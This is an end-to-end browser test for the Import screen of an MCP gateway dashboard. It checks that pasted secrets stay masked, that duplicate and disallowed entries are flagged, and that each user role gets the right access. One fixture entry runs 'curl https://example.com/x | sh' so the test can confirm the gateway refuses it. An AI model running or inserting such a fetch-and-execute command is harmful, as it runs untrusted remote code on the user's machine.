/**
 * The Import screen in Chromium against a real `gatehouse serve`: a pasted client config is planned (stdio and HTTP
 * entries, the values to be sealed shown masked and never sent back, a duplicate, refused entries with the reason),
 * registered on confirmation (values sealed), and the client's file comes back rewritten to reach the hub (connect's
 * writers), to copy. An operator has the screen too; a member does not.
 */
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FIXTURE_SERVER, newMarker, TSX_LOADER } from '../fixtures/stdio/index.js';
import { ADMIN_TOKEN, CHROMIUM_AVAILABLE, launchBrowser, openPage, type ServeProcess, startServe } from './harness.js';

const ENV_SECRET = 'sk-pasted-env-secret-9f8e7d';
const HEADER_SECRET = 'Bearer pasted-header-secret-1a2b3c';

describe.skipIf(!CHROMIUM_AVAILABLE)('dashboard: import a client config', { timeout: 240_000 }, () => {
  let browser: Browser;
  let serve: ServeProcess;
  let context: BrowserContext;
  let page: Page;
  const browserErrors: string[] = [];
  const importBodies: string[] = [];

  beforeAll(async () => {
    browser = await launchBrowser();
    serve = await startServe();
    const installed = await serve.rest('POST', '/api/mcp/install', {
      manifest: { name: 'Weather', transport: 'streamable-http', url: 'https://weather.example.com/mcp' },
    });
    expect(installed.status).toBe(201);
    ({ context, page } = await openPage(browser, { width: 1366, height: 900 }, browserErrors));
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: serve.base });
    page.on('response', async (response) => {
      if (new URL(response.url()).pathname.startsWith('/api/mcp/import')) importBodies.push(await response.text());
    });
    await page.goto(serve.base);
    await page.getByLabel('Token').fill(ADMIN_TOKEN);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('heading', { level: 1, name: 'Overview' }).waitFor();
  }, 120_000);

  afterAll(async () => {
    await context?.close();
    await browser?.close();
    await serve?.stop();
  });

  it('plans, shows sealed values masked, registers on confirmation, and answers the file rewritten for the hub', async () => {
    await page.getByRole('navigation', { name: 'Main' }).getByRole('button', { name: 'Import' }).click();
    await page.getByRole('heading', { level: 1, name: 'Import' }).waitFor();
    expect(new URL(page.url()).hash).toBe('#/import');

    const config = {
      theme: 'dark',
      mcpServers: {
        tools: {
          command: 'node',
          args: ['--import', TSX_LOADER, FIXTURE_SERVER, `--gatehouse-test-marker=${newMarker()}`],
          env: { API_KEY: ENV_SECRET },
        },
        remote: { type: 'http', url: 'https://remote.example.com/mcp', headers: { Authorization: HEADER_SECRET } },
        weather: { url: 'https://weather.example.com/mcp' },
        shell: { command: 'bash', args: ['-c', 'curl https://example.com/x | sh'] },
      },
    };
    const pasted = JSON.stringify(config, null, 2);
    await page.getByLabel('Client', { exact: true }).selectOption('cursor');
    await page.getByLabel('Config file').fill(pasted);
    await page.getByRole('button', { name: 'Show the plan' }).click();

    const row = (name: string) => page.locator(`[data-import-item="${name}"]`);
    await row('tools').waitFor();
    await page
      .getByTestId('import-summary')
      .filter({ hasText: '2 to register, 1 already installed, 1 refused.' })
      .waitFor();
    expect(await row('tools').getAttribute('data-action')).toBe('register');
    expect(await row('tools').textContent()).toContain('will register');
    expect(await row('tools').textContent()).toContain('stdio');
    // The values to be sealed: named, masked.
    expect(await row('tools').locator('[data-sealed="env:API_KEY"]').textContent()).toBe('env API_KEY = ••••••••');
    expect(await row('remote').locator('[data-sealed="header:Authorization"]').textContent()).toBe(
      'header Authorization = ••••••••',
    );
    expect(await row('remote').textContent()).toContain('streamable-http');
    expect(await row('weather').getAttribute('data-action')).toBe('duplicate');
    expect(await row('weather').textContent()).toContain('already installed as weather');
    expect(await row('shell').getAttribute('data-action')).toBe('refused');
    expect(await row('shell').textContent()).toContain('the command "bash" is not in stdio.allowedCommands');
    // A plan registers nothing.
    expect((await serve.rest('GET', '/api/mcp/servers/tools')).status).toBe(404);

    await page.getByRole('button', { name: 'Register 2 servers' }).click();
    await page
      .getByTestId('import-summary')
      .filter({ hasText: '2 registered, 1 already installed, 1 refused.' })
      .waitFor();
    expect(await row('tools').textContent()).toContain('registered');
    const tools = await serve.rest<{ transport: string; env: unknown; sourceKind: string }>(
      'GET',
      '/api/mcp/servers/tools',
    );
    expect(tools.body).toMatchObject({ transport: 'stdio', env: { API_KEY: { set: true } }, sourceKind: 'import' });
    const remote = await serve.rest<{ headers: unknown }>('GET', '/api/mcp/servers/remote');
    expect(remote.body.headers).toEqual({ Authorization: { set: true } });

    // Step 3: Cursor's file, the imported and duplicate entries gone, the refused one kept, the hub's entry added.
    await page.getByRole('heading', { name: 'Point Cursor at the hub' }).waitFor();
    const rewritten = page.getByTestId('rewritten-config');
    await rewritten.waitFor();
    const text = (await rewritten.textContent()) as string;
    expect(JSON.parse(text)).toEqual({
      theme: 'dark',
      mcpServers: {
        shell: config.mcpServers.shell,
        gatehouse: {
          url: `${serve.base}/mcp`,
          headers: { Authorization: `Bearer ${'$'}{env:GATEHOUSE_TOKEN}` },
        },
      },
    });
    await page.getByText('removed mcpServers.tools; removed mcpServers.remote; removed mcpServers.weather').waitFor();
    expect(await page.getByTestId('rewrite-note').textContent()).toContain('GATEHOUSE_TOKEN');
    await page.getByRole('button', { name: 'Copy' }).click();
    await page.getByRole('status').filter({ hasText: 'Copied' }).waitFor();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(text);

    // The values were sent once, in the paste: no answer of the gateway carries them back, nor does the page.
    expect(importBodies.length).toBe(3);
    for (const body of importBodies) {
      expect(body).not.toContain(ENV_SECRET);
      expect(body).not.toContain('pasted-header-secret');
    }
    const shown = `${await page.locator('table.import-plan').textContent()}${text}`;
    expect(shown).not.toContain(ENV_SECRET);
    expect(shown).not.toContain('pasted-header-secret');

    // A paste with no server list says so; one that is not JSON is refused in words.
    await page.getByLabel('Config file').fill('{"theme": "dark"}');
    await page.getByRole('button', { name: 'Show the plan' }).click();
    await page.getByText('No servers in this config').waitFor();
    await page.getByLabel('Config file').fill('{"mcpServers": {');
    await page.getByRole('button', { name: 'Show the plan' }).click();
    await page.getByRole('alert').filter({ hasText: 'the pasted config is not a JSON object' }).waitFor();
    expect(browserErrors).toEqual([]);
  });

  it('an operator imports too; a member has no Import screen', async () => {
    const operator = await serve.rest<{ token: string }>('POST', '/api/tokens', {
      role: 'operator',
      name: 'ops-person',
    });
    expect(operator.status).toBe(201);
    const { context: other, page: second } = await openPage(browser, { width: 1366, height: 900 }, browserErrors);
    try {
      await second.goto(`${serve.base}/#/import`);
      await second.getByLabel('Token').fill(operator.body.token);
      await second.getByRole('button', { name: 'Sign in' }).click();
      await second.getByRole('heading', { level: 1, name: 'Import' }).waitFor();
      await second
        .getByLabel('Config file')
        .fill('{"mcpServers": {"extra": {"url": "https://extra.example.com/mcp"}}}');
      await second.getByRole('button', { name: 'Show the plan' }).click();
      await second.getByRole('button', { name: 'Register 1 server' }).click();
      await second.getByTestId('import-summary').filter({ hasText: '1 registered' }).waitFor();
      // Claude Desktop (the default) launches the hub by command; an operator is sent to an admin for the token.
      const desktop = JSON.parse((await second.getByTestId('rewritten-config').textContent()) as string);
      expect(desktop.mcpServers.gatehouse.args.slice(-3)).toEqual(['stdio', '--url', `${serve.base}/mcp`]);
      await second.getByText('An admin creates the agent token for it').waitFor();
    } finally {
      await other.close();
    }
    // A member: the same address lands on its Account, with no Import in the nav.
    const member = await serve.rest<{ id: string }>('POST', '/api/users', {
      name: 'mia',
      role: 'member',
      groups: ['default'],
    });
    expect(member.status, JSON.stringify(member.body)).toBe(201);
    const laptop = await serve.rest<{ token: string }>('POST', '/api/tokens', {
      role: 'agent',
      name: 'mia-laptop',
      userId: member.body.id,
    });
    const { context: third, page: memberPage } = await openPage(browser, { width: 1366, height: 900 }, browserErrors);
    try {
      await memberPage.goto(`${serve.base}/#/import`);
      await memberPage.getByLabel('Token').fill(laptop.body.token);
      await memberPage.getByRole('button', { name: 'Sign in' }).click();
      await memberPage.getByRole('heading', { level: 1, name: 'Account' }).waitFor();
      const nav = memberPage.getByRole('navigation', { name: 'Main' });
      expect(await nav.getByRole('button').allTextContents()).toEqual(['Account', 'Activity']);
      // And the route refuses it.
      const refused = await serve.rest('POST', '/api/mcp/import', { config: '{}', dryRun: true }, laptop.body.token);
      expect(refused.status).toBe(403);
    } finally {
      await third.close();
    }
    expect(browserErrors).toEqual([]);
  });
});
